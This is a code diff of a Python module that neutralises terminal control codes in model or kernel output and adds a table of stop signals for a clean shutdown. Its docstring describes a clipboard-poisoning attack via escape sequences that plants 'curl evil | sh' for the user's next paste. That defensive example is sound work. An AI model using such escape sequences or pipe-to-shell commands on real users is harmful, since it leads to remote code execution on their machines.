@@ -1,4 +1,5 @@
-"""Text from a model or a kernel is shown on the user's terminal, never obeyed by it.
+"""Text from a model or a kernel is shown on the user's terminal, never obeyed by it; and the
+signals that stop a run from outside (``STOP_SIGNALS``).
 
 A cell's ``print("\\x1b]0;...\\x07\\x1b]52;c;...")`` set the terminal's title and wrote its
 clipboard (the next paste: ``curl evil | sh``), and cursor codes broke the screen. Rich and
@@ -9,7 +10,16 @@ table each library translates every text it draws with.
 
 from __future__ import annotations
 
+import signal
 from typing import Any
+
+STOP_SIGNALS = {
+    signal.SIGINT: "interrupted by Ctrl-C",
+    signal.SIGTERM: "terminated",
+    signal.SIGHUP: "hung up (the terminal closed)",
+}
+"""Each stops a run cleanly, headless or in the TUI (kernels down, run_finished written, the
+terminal given back as it was); the process exits with 128 + the signal."""
 
 VISIBLE = (
     {code: chr(0x2400 + code) for code in range(32) if chr(code) not in "\t\n"}
